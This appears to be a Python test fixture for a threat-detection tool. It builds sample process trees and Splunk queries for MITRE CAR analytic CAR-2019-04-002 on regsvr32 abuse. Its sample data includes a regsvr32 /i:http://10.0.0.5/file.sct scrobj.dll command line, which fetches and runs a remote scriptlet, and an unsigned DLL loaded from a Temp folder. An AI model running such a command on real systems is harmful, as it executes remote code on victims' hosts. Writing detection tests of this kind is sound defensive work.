"""Trees and reasons built by hand, and a run that has everything a report shows."""

from msgspec.structs import replace

from carhound.findings.lineage.tree import Deed, Process, Tree
from carhound.findings.prevalence import Prevalence
from carhound.findings.reasons import Reason
from carhound.findings.run import Finding, Run
from carhound.model.diagnostics import Source

from .sample_parts import HOSTILE, LOAD, MAIN, NEW, process, time
from .sample_runs import findings_run

CODES = {
    MAIN: Source(
        'index=__your_sysmon_data__ EventCode=1 (ParentImage="C:\\\\Windows\\\\System32\\\\regsvr32.exe"\n'
        '  OR ParentImage="C:\\\\Windows\\\\SysWOW64\\\\regsvr32.exe")\n'
        '| stats values(ComputerName) as "Computer Name" by Image, CommandLine',
        "analytics/CAR-2019-04-002.yaml",
        41,
        6,
    ),
    NEW: Source(
        "index=__your_sysmon_data__ EventCode=1\n  earliest=-1d@d latest=now NOT\n\t[search earliest=-60d@d"
        " latest=-30d@d EventCode=1 | dedup CommandLine | fields CommandLine]",
        "analytics/CAR-2019-04-002.yaml",
        60,
        6,
    ),
    LOAD: Source('EventCode=7 Image="*\\\\regsvr32.exe" Signed=false', "analytics/CAR-2019-04-002.yaml", 80),
}

REASONS = (
    Reason(
        "unsigned-module",
        "look",
        r"regsvr32.exe loaded an unsigned module from C:\Users\alice\AppData\Local\Temp",
    ),
    Reason("new-in-window", "look", "this command line was not met in the 30 days before"),
    Reason("rare", "context", "its command line was met on 2 of 60 hosts"),
    Reason("signed", "ordinary", "calc.exe is signed by Microsoft Windows"),
)


def node(number: int, image: str | None, *children: Process, **changes: object) -> Process:
    """A process of WS-0042."""
    defaults: dict[str, object] = {
        "guid": f"{{{number:08x}-0000-0000-0000-000000000000}}",
        "pid": str(4000 + number),
        "computer": "WS-0042.corp.example",
        "image": image,
        "command_line": None if image is None else f'"{image}" /run {number}',
        "user": r"CORP\alice",
        "started": time(f"2018-12-04T09:{number:02d}:00"),
        "ended": None,
        "logged": True,
        "children": children,
    }
    return Process(**{**defaults, **changes})  # type: ignore[arg-type]


def tree(found: Finding) -> Tree:
    """Explorer, a renamed regsvr32 with deeds, and the process that was found."""
    deeds = (
        Deed("network", time("2018-12-04T09:11:02"), "3", "10.0.0.5:80", "first contact of this host", True),
        Deed(
            "module",
            time("2018-12-04T09:11:03"),
            "7",
            r"C:\Windows\System32\scrobj.dll",
            "signed by Microsoft",
        ),
        Deed(
            "module",
            None,
            "7",
            r"C:\Users\alice\AppData\Local\Temp\AllTheThingsx86.dll",
            "unsigned",
            suspicious=True,
        ),
        Deed("dns", time("2018-12-04T09:11:04"), "22", "updates.example.net"),
    )
    calc = node(
        12,
        r"C:\Windows\System32\calc.exe",
        node(14, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", command_line=HOSTILE),
        findings=(found.id,),
        children_left_out=3,
    )
    regsvr32 = node(
        11,
        r"C:\Users\Public\myregsvr32.exe",
        calc,
        node(13, r"C:\Windows\System32\conhost.exe", ended=time("2018-12-04T09:20")),
        command_line="regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll",
        true_name="regsvr32.exe",
        deeds=deeds,
        deeds_left_out=12,
    )
    explorer = node(2, r"C:\Windows\explorer.exe", regsvr32)
    root = node(1, None, explorer, logged=False, pid="812", user=None, started=None)
    return Tree(root, (0, 0, 0), cut=True)


def report_run() -> Run:
    """The run of findings, with trees, reasons, published texts and some more of the same."""
    base = findings_run()
    calc, hostile, *others, loaded = base.findings
    more = tuple(
        process(
            30 + n,
            id=f"{n:064x}",
            time=time(f"2018-12-0{1 + n % 4}T{7 + n % 9:02d}:{n * 7 % 60:02d}"),
            computer=f"WS-{n % 5:04d}.corp.example",
            prevalence=Prevalence(("CommandLine",), (f"calc {n % 4}",), 1 + n % 4 * 3, 2 + n % 4, None, None),
            reasons=REASONS[n % 4 :],
        )
        for n in range(24)
    )
    findings = (
        replace(calc, reasons=REASONS, tree=tree(calc)),
        replace(
            hostile,
            implementations=(*hostile.implementations, NEW),
            reasons=(replace(REASONS[0], text=HOSTILE), *REASONS[2:]),
            tree=tree(calc),
        ),
        *others,
        replace(loaded, reasons=REASONS[:1], tree=replace(tree(loaded), focus=(0, 0), cut=False)),
        *more,
    )
    first, *rest = base.analytics
    coded = tuple(replace(one, code=CODES.get(one.name)) for one in first.implementations)
    return replace(base, findings=findings, analytics=(replace(first, implementations=coded), *rest))
